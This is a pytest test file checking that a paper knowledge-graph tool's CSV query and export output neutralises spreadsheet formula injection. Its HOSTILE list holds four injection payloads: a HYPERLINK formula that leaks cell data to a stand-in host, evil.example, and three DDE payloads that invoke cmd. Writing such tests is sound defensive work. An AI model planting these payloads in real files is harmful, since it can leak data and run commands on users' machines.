"""CSV from `query --format csv` and `export --format csv` is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from click.testing import CliRunner

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    """A store whose paper titles are spreadsheet formulas."""
    import paperkg

    folder = tmp_path_factory.mktemp("csvinj")
    listing = folder / "hostile.jsonl"
    listing.write_text("".join(json.dumps({"title": t, "abstract": f"We study {i} things."}) + "\n"
                               for i, t in enumerate(HOSTILE)), encoding="utf-8")
    db = folder / "kg.lbug"
    paperkg.build([str(listing)], db=db)
    return db


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_query_csv_neutralises_formulas(store):
    from paperkg.cli import cli

    res = CliRunner().invoke(cli, ["query", "--db", str(store), "--format", "csv",
                                   "MATCH (p:Paper) RETURN p.title AS title ORDER BY title"])
    assert res.exit_code == 0, res.output
    cells = _cells(res.output)
    assert sorted(cells[1:]) == sorted("'" + t for t in HOSTILE)
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_export_csv_neutralises_formulas(store, tmp_path):
    from paperkg.graph.export import export

    out = tmp_path / "graph.zip"
    export("csv", out, db=store)
    with zipfile.ZipFile(out) as zf:
        text = zf.read("nodes/Paper.csv").decode("utf-8")
    cells = _cells(text)
    for title in HOSTILE:
        assert "'" + title in cells
        assert title not in cells
